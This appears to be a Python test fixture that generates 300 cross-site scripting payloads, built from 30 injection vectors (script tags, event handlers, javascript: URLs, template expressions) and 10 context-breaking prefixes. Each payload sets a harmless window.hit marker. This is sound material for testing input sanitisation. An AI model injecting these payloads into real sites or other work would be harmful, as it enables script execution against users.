"""Texts that run something where a page takes them for markup, code, addresses or styles: 300 of them."""

from __future__ import annotations

from itertools import product

RUN = "window.hit=1"
"""What each of them does where it runs."""

_MARKUP = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN}>here</a>",
    f"<math><a xlink:href=javascript:{RUN}>here</a></math>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button autofocus>go</button></form>",
    f"<base href=javascript:{RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><img src=x onerror={RUN}></noscript>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<x style='animation-name:a' onanimationstart={RUN}>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"[here](javascript:{RUN})",
)
_BEFORE = ("", "'>", '">', "-->", "</textarea>", "</title>", "</script>", "]]>", "\\u003c", "\u202e\x00")

ALL = tuple(before + text for before, text in product(_BEFORE, _MARKUP))


def names() -> list[str]:
    """Return those that can be names of steps: printable, and without the characters that references need."""
    plain = (text.replace("/", "") for text in ALL)
    return sorted({text for text in plain if text.isprintable() and not set("{}$") & set(text)})
